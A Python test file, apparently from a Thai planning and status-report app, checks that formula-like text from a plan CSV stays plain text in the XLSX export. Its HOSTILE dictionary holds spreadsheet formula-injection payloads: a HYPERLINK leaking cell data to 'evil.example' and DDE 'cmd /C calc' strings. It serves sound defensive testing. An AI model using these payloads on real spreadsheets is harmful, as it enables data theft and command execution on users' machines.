"""Text from a plan file or a chat that looks like a formula is written to the XLSX as text."""

from __future__ import annotations

import csv

from openpyxl import load_workbook

from base.settings import Settings
from reports.export import export
from reports.model import build_report
from storage.answers import Answers
from storage.db import Database
from storage.models import Organisation, Status, StatusReport
from support.chat import setup_org

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"คลิก")',
    "kpi": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "=cmd|' /C calc'!A0",
    "title2": "+1+1 โครงการบวก",
    "title3": "-2+3 มาตรการลบ",
    "done": "=1+1 ดำเนินการแล้ว\x01\x0b",
}


async def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    path = tmp_path / "plan.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["มิติ", "ภารกิจ", "ประเภท", "ชื่อโครงการ", "ตัวชี้วัด", "ผู้รับผิดชอบ", "งบประมาณ"])
        w.writerow(["1", "1.1", "โครงการ", HOSTILE["title"], HOSTILE["kpi"], HOSTILE["unit"], "1,000"])
        w.writerow(["1", "1.1", "โครงการ", HOSTILE["title2"], "", "กองคลัง", "-"])
        w.writerow(["1", "1.1", "มาตรการ", HOSTILE["title3"], "", "กองคลัง", "-"])
    db = Database(f"sqlite+aiosqlite:///{tmp_path / 'x.db'}")
    await db.upgrade()
    org_id = await setup_org(db, path)
    async with db.session() as s:
        answers = Answers(s, org_id)
        rnd = await answers.open_round()
        for p in await answers.pairs(rnd.fiscal_year_id):
            await answers.save(
                StatusReport(
                    org_id=org_id,
                    round_id=rnd.id,
                    item_id=p.item.id,
                    unit_id=p.unit_id,
                    status=Status.IN_PROGRESS,
                    done_text=HOSTILE["done"],
                ),
                actor="test",
            )
    async with db.session(commit=False) as s:
        org = await s.get(Organisation, org_id)
        report = await build_report(s, Settings(data_dir=tmp_path), org, await Answers(s, org_id).open_round())
    await db.dispose()
    # the answers' control characters (\x01, \x0b) cannot go into XML: the export must still succeed
    xlsx = next(p for p in export(report, ["xlsx", "docx"], tmp_path / "out") if p.suffix == ".xlsx")

    found = {}
    for ws in load_workbook(xlsx).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    found.setdefault(cell.value.split()[0][:12], []).append(cell.data_type)
    for text in (HOSTILE["title"], HOSTILE["unit"], HOSTILE["title2"], HOSTILE["title3"]):
        key = text.split()[0][:12]
        assert key in found, (key, list(found))
    assert all(t == "s" for types in found.values() for t in types), found  # no formula cell at all
